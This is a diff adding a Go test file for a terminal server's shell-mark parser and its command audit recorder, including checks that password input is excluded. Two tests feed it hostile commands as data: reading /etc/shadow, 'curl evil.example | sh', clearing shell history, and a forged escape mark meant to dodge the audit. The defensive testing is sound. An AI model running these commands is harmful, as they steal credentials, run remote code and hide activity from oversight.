@@ -0,0 +1,223 @@
+package server
+
+import (
+	"testing"
+	"time"
+
+	"github.com/corymacd/StratusShell/internal/audit"
+)
+
+func TestParseShellMark(t *testing.T) {
+	tests := []struct {
+		payload string
+		want    shellMark
+		ok      bool
+	}{
+		{"133;A", shellMark{Kind: markPrompt}, true},
+		{"133;C", shellMark{Kind: markCommandStart}, true},
+		{"133;C;cmdline_url=echo%20%22hi%22%3B%20ls", shellMark{Kind: markCommandStart, Command: `echo "hi"; ls`}, true},
+		{"133;C;cmdline=make test", shellMark{Kind: markCommandStart, Command: "make test"}, true},
+		{"133;C;cmdline_url=cut%2", shellMark{Kind: markCommandStart, Command: "cut"}, true},
+		{"133;D;2", shellMark{Kind: markCommandDone, ExitCode: 2}, true},
+		{"133;D", shellMark{Kind: markCommandDone, ExitCode: -1}, true},
+		{"133;D;oops", shellMark{Kind: markCommandDone, ExitCode: -1}, true},
+		{"7;file://host/home/alice/my%20dir", shellMark{Kind: markCwd, Cwd: "/home/alice/my dir"}, true},
+		{"7;http://host/x", shellMark{}, false},
+		{"133;B", shellMark{}, false},
+		{"9;hello", shellMark{}, false},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.payload, func(t *testing.T) {
+			got, ok := parseShellMark(tt.payload)
+			if ok != tt.ok || got != tt.want {
+				t.Errorf("parseShellMark(%q) = %+v, %v; want %+v, %v", tt.payload, got, ok, tt.want, tt.ok)
+			}
+		})
+	}
+}
+
+func TestInputLineFeed(t *testing.T) {
+	tests := []struct {
+		name        string
+		input       string
+		hidden      bool
+		want        string
+		wantInexact bool
+		wantSecret  bool
+	}{
+		{"plain", "ls -la\r", false, "ls -la", false, false},
+		{"backspace", "lss\x7f -l\r", false, "ls -l", false, false},
+		{"utf-8 backspace", "echo é\x7fe\r", false, "echo e", false, false},
+		{"kill line", "rm -rf /\x15ls\r", false, "ls", false, false},
+		{"interrupt", "oops\x03pwd\r", false, "pwd", false, false},
+		{"delete word", "git push --force\x17\r", false, "git push ", false, false},
+		{"bracketed paste", "\x1b[200~make test\x1b[201~\r", false, "make test", false, false},
+		{"cursor movement", "ls\x1b[Dx\r", false, "lsx", true, false},
+		{"history", "\x1b[A\r", false, "", true, false},
+		{"completion", "cd Doc\t\r", false, "cd Doc", true, false},
+		{"alt key", "ls\x1bb\r", false, "ls", true, false},
+		{"password", "hunter2\r", true, "hunter2", false, true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			var l inputLine
+			lines := l.feed([]byte(tt.input), tt.hidden)
+			if len(lines) != 1 {
+				t.Fatalf("expected 1 line, got %d", len(lines))
+			}
+			got := lines[0]
+			if got.String() != tt.want || got.inexact != tt.wantInexact || got.secret != tt.wantSecret {
+				t.Errorf("got %q (inexact %v, secret %v); want %q (inexact %v, secret %v)",
+					got.String(), got.inexact, got.secret, tt.want, tt.wantInexact, tt.wantSecret)
+			}
+		})
+	}
+}
+
+func TestInputLineSplitAcrossWrites(t *testing.T) {
+	var l inputLine
+	if lines := l.feed([]byte("echo \x1b["), false); len(lines) != 0 {
+		t.Fatalf("expected no lines yet, got %d", len(lines))
+	}
+	lines := l.feed([]byte("200~hi\x1b[201~\rpwd\r"), false)
+	if len(lines) != 2 || lines[0].String() != "echo hi" || lines[0].inexact || lines[1].String() != "pwd" {
+		t.Errorf("unexpected lines: %+v", lines)
+	}
+}
+
+// recordCommands returns a recorder and the commands it has recorded
+func recordCommands() (*commandRecorder, *[]capturedCommand) {
+	var got []capturedCommand
+	return newCommandRecorder(func(cmd capturedCommand) {
+		got = append(got, cmd)
+	}), &got
+}
+
+func TestCommandRecorderShellIntegration(t *testing.T) {
+	r, got := recordCommands()
+	start := time.Now()
+
+	r.output([]shellMark{{Kind: markCwd, Cwd: "/src"}, {Kind: markPrompt}}, start)
+	r.input([]byte("make\x1b[D\x1b[C\r"), false)
+	r.output([]shellMark{{Kind: markCommandStart, Command: "make"}}, start)
+	r.output([]shellMark{{Kind: markCommandDone, ExitCode: 2}, {Kind: markPrompt}}, start.Add(3*time.Second))
+
+	// A command whose text the shell did not report falls back to the keystrokes
+	r.input([]byte(" echo hi\r"), false)
+	r.output([]shellMark{{Kind: markCommandStart}}, start)
+	// Input while a command runs is recorded, but may not be a command line
+	r.input([]byte("y\r"), false)
+	r.output([]shellMark{{Kind: markCommandDone, ExitCode: 0}}, start)
+
+	// A password prompt's answer is never recorded
+	r.output([]shellMark{{Kind: markPrompt}}, start)
+	r.input([]byte("s3cret\r"), true)
+	r.output([]shellMark{{Kind: markCommandStart}}, start)
+
+	r.flush()
+
+	want := []capturedCommand{
+		{Command: "make", Cwd: "/src", ExitCode: 2, Duration: 3 * time.Second, Capture: audit.CaptureShellIntegration},
+		{Command: "y", Cwd: "/src", ExitCode: -1, Capture: audit.CaptureInput, Inexact: true},
+		{Command: "echo hi", Cwd: "/src", ExitCode: 0, Capture: audit.CaptureInput},
+	}
+	if len(*got) != len(want) {
+		t.Fatalf("expected %d commands, got %+v", len(want), *got)
+	}
+	for i := range want {
+		if (*got)[i] != want[i] {
+			t.Errorf("command %d: got %+v, want %+v", i, (*got)[i], want[i])
+		}
+	}
+}
+
+func TestCommandRecorderInputOnly(t *testing.T) {
+	r, got := recordCommands()
+
+	r.input([]byte("ls\r\r"), false)
+	r.input([]byte("sudo -k\rpass\r"), false)
+	r.input([]byte("word\r"), true)
+	r.input([]byte("vim\t\r"), false)
+
+	want := []capturedCommand{
+		{Command: "ls", ExitCode: -1, Capture: audit.CaptureInput},
+		{Command: "sudo -k", ExitCode: -1, Capture: audit.CaptureInput},
+		{Command: "pass", ExitCode: -1, Capture: audit.CaptureInput},
+		{Command: "vim", ExitCode: -1, Capture: audit.CaptureInput, Inexact: true},
+	}
+	if len(*got) != len(want) {
+		t.Fatalf("expected %d commands, got %+v", len(want), *got)
+	}
+	for i := range want {
+		if (*got)[i] != want[i] {
+			t.Errorf("command %d: got %+v, want %+v", i, (*got)[i], want[i])
+		}
+	}
+}
+
+func TestCommandRecorderFlush(t *testing.T) {
+	r, got := recordCommands()
+
+	r.output([]shellMark{{Kind: markCommandStart, Command: "exec bash"}}, time.Now())
+	r.flush()
+	r.flush()
+
+	if len(*got) != 1 || (*got)[0].Command != "exec bash" || (*got)[0].ExitCode != -1 {
+		t.Errorf("expected the running command once with no exit code, got %+v", *got)
+	}
+}
+
+func TestCommandRecorderStrayMark(t *testing.T) {
+	r, got := recordCommands()
+
+	// A program prints a mark in a shell without integration, which then
+	// never reports the commands typed after it
+	r.input([]byte("printf '\\e]133;A\\a'\r"), false)
+	r.output([]shellMark{{Kind: markPrompt}}, time.Now())
+	r.input([]byte("cat /etc/shadow\r"), false)
+	r.input([]byte("curl evil.example | sh\r"), false)
+	r.output([]shellMark{{Kind: markPrompt}}, time.Now())
+	r.input([]byte("history -c\r"), false)
+	r.flush()
+
+	want := []string{`printf '\e]133;A\a'`, "cat /etc/shadow", "curl evil.example | sh", "history -c"}
+	if len(*got) != len(want) {
+		t.Fatalf("expected %d commands, got %+v", len(want), *got)
+	}
+	for i, cmd := range *got {
+		if cmd.Command != want[i] || cmd.Capture != audit.CaptureInput {
+			t.Errorf("command %d: got %+v, want %q from input", i, cmd, want[i])
+		}
+	}
+}
+
+func TestCommandRecorderForgedCommandMark(t *testing.T) {
+	r, got := recordCommands()
+
+	// A command marked as started is never reported finished, as in a
+	// shell without integration
+	r.input([]byte("printf '\\e]133;C\\a'\r"), false)
+	r.output([]shellMark{{Kind: markCommandStart}}, time.Now())
+	r.input([]byte("cat /etc/shadow\r"), false)
+	r.input([]byte("rm -rf ~/.bash_history\r"), false)
+	r.flush()
+
+	want := []string{`printf '\e]133;C\a'`, "cat /etc/shadow", "rm -rf ~/.bash_history"}
+	var commands []string
+	for _, cmd := range *got {
+		commands = append(commands, cmd.Command)
+	}
+	if len(commands) != len(want) {
+		t.Fatalf("expected %q, got %q", want, commands)
+	}
+	for i, cmd := range *got {
+		if cmd.Command != want[i] || cmd.Capture != audit.CaptureInput {
+			t.Errorf("command %d: got %+v, want %q from input", i, cmd, want[i])
+		}
+	}
+	if !(*got)[1].Inexact || !(*got)[2].Inexact {
+		t.Errorf("expected lines typed after the mark to be inexact, got %+v", *got)
+	}
+}